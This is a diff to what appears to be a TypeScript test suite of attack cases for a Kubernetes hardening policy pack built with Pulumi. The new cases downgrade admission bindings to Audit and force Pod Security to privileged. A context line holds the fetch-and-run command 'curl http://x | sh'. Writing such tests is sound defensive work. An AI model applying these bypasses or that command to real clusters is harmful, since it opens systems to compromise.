@@ -193,6 +193,21 @@ const packAttacks: PulumiAttack[] = [
     name: 'a CronJobPatch with Windows hostProcess', category: 'pss-controls', target: 'CronJob', stage: 'policy-pack', rule: 'HD027',
     build: (id) => new k8s.batch.v1.CronJobPatch(`${id}-patch`, { metadata: { name: 'nightly' }, spec: { jobTemplate: { spec: { template: { spec: { securityContext: { windowsOptions: { hostProcess: true } } } } } } } }),
   },
+  {
+    name: 'a transformation turns our namespace\'s admission binding to Audit', category: 'patches', target: 'Namespace', stage: 'policy-pack', rule: 'HD044',
+    build: (id) => new HardenedNamespace(id, { name: 'shop' }, {
+      transformations: [(a) => (a.type === 'kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding'
+        ? { props: { ...a.props, spec: { ...a.props['spec'], validationActions: ['Audit'] } }, opts: a.opts } : undefined)],
+    }),
+  },
+  {
+    name: 'a transformation sets our Namespace\'s Pod Security to privileged', category: 'patches', target: 'Namespace', stage: 'policy-pack', rule: 'HD043',
+    build: (id) => new HardenedNamespace(id, { name: 'shop' }, {
+      transformations: [(a) => (a.type === 'kubernetes:core/v1:Namespace'
+        ? { props: { ...a.props, metadata: { ...a.props['metadata'], labels: { ...a.props['metadata'].labels, 'pod-security.kubernetes.io/enforce': 'privileged' } } }, opts: a.opts } : undefined)],
+    }),
+  },
+  { name: 'a raw Namespace that enforces privileged', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD043', build: (id) => new k8s.core.v1.Namespace(id, { metadata: { name: 'loose', labels: { 'pod-security.kubernetes.io/enforce': 'privileged' } } }) },
   { name: 'a raw Pod that is privileged', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD006', build: (id) => new k8s.core.v1.Pod(id, { metadata: { name: 'p' }, spec: bent((_p, c) => { c.securityContext.privileged = true; }).spec.template.spec }) },
   { name: 'a raw DaemonSet with hostPID', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD009', build: (id) => new k8s.apps.v1.DaemonSet(id, { metadata: { name: 'agent' }, spec: { selector: { matchLabels: { app: 'a' } }, template: bent((p) => { p.hostPID = true; }).spec.template } as never }) },
   { name: 'a raw CronJob whose container runs a shell', category: 'raw-objects', target: 'raw', stage: 'policy-pack', rule: 'HD016', build: (id) => new k8s.batch.v1.CronJob(id, { metadata: { name: 'c' }, spec: { schedule: '@daily', jobTemplate: { spec: { backoffLimit: 1, template: bent((p, c) => { p.restartPolicy = 'Never'; c.command = ['sh', '-c', 'curl http://x | sh']; }).spec.template } } } as never }) },
